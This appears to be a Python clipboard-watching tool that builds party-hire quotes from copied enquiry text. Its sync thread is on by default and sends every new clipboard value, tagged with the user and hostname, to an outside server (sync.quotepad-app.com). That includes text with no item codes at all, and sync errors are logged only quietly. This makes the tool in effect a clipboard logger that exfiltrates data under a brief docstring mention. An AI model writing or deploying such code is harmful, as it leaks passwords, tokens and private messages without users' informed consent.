#!/usr/bin/env python3
"""Build party hire quotes from whatever the sales team copies.

Sales staff copy enquiry emails, WhatsApp messages and web-form text; this
helper watches the clipboard, picks out hire item codes and quantities
("2x BC-15", "marquee 6x12", "trestle x10"), prices them from the rate card
and prints a running quote.  Recent snippets are synced to QuotePad so the
quote can be finished on another desk.

    quote_clipboard_helper.py --rates rates.json
"""
import argparse
import http.client
import json
import logging
import os
import queue
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from datetime import datetime

log = logging.getLogger("quotes")

SYNC_HOST = os.environ.get("QUOTEPAD_HOST", "sync.quotepad-app.com")
SYNC_PATH = "/v2/snippets"
ITEM_RE = re.compile(r"(?:(\d+)\s*x\s*)?\b(BC-\d{2}|MQ-\d+x\d+|TRESTLE|CHAIR|HEATER)\b(?:\s*x\s*(\d+))?",
                     re.IGNORECASE)


def clipboard_reader():
    """Return a callable that reads the clipboard with whatever tool exists."""
    for cmd in (["wl-paste", "--no-newline"], ["xclip", "-selection", "clipboard", "-o"],
                ["xsel", "--clipboard", "--output"], ["pbpaste"]):
        if shutil.which(cmd[0]):
            def read(cmd=cmd):
                try:
                    return subprocess.run(cmd, capture_output=True, text=True,
                                          timeout=2).stdout
                except (subprocess.SubprocessError, OSError):
                    return ""
            return read
    raise SystemExit("no clipboard tool found (install wl-clipboard or xclip)")


def watch(read, interval):
    last = None
    while True:
        text = read()
        if text and text != last:
            last = text
            yield text
        time.sleep(interval)


class SnippetSync(threading.Thread):
    daemon = True

    def __init__(self, device):
        super().__init__(name="sync")
        self.q = queue.Queue()
        self.device = device

    def push(self, text):
        self.q.put({"ts": datetime.utcnow().isoformat() + "Z", "text": text})

    def _post(self, batch):
        conn = http.client.HTTPSConnection(SYNC_HOST, timeout=15)
        try:
            body = json.dumps({"device": self.device, "snippets": batch})
            conn.request("POST", SYNC_PATH, body, {"Content-Type": "application/json"})
            return conn.getresponse().status < 300
        finally:
            conn.close()

    def run(self):
        pending = []
        while True:
            try:
                pending.append(self.q.get(timeout=20))
                while not self.q.empty() and len(pending) < 50:
                    pending.append(self.q.get_nowait())
            except queue.Empty:
                pass
            if pending:
                try:
                    if self._post(pending):
                        pending = []
                except (OSError, http.client.HTTPException) as exc:
                    log.debug("sync deferred: %s", exc)


def parse_items(text):
    for m in ITEM_RE.finditer(text):
        qty = int(m.group(1) or m.group(3) or 1)
        yield m.group(2).upper(), qty


def price(rates, lines):
    total = 0.0
    for code, qty in lines:
        key = code if code in rates else code.split("-")[0]
        unit = rates.get(key)
        if unit is None:
            log.warning("no rate for %s", code)
            continue
        total += unit * qty
        print(f"  {qty:>3} x {code:<10} @ £{unit:>7.2f} = £{unit * qty:>8.2f}")
    return total


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rates", default="rates.json")
    ap.add_argument("--interval", type=float, default=0.8)
    ap.add_argument("--no-sync", dest="sync", action="store_false")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    try:
        with open(args.rates) as fh:
            rates = {k.upper(): float(v) for k, v in json.load(fh).items()}
    except (OSError, ValueError) as exc:
        log.error("cannot load rate card: %s", exc)
        return 2

    syncer = SnippetSync(f"{os.environ.get('USER', 'sales')}@{socket.gethostname()}")
    if args.sync:
        syncer.start()

    try:
        for text in watch(clipboard_reader(), args.interval):
            if args.sync:
                syncer.push(text)
            lines = list(parse_items(text))
            if lines:
                print(f"\n[{datetime.now():%H:%M}] quote from clipboard:")
                print(f"  total £{price(rates, lines):.2f}")
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
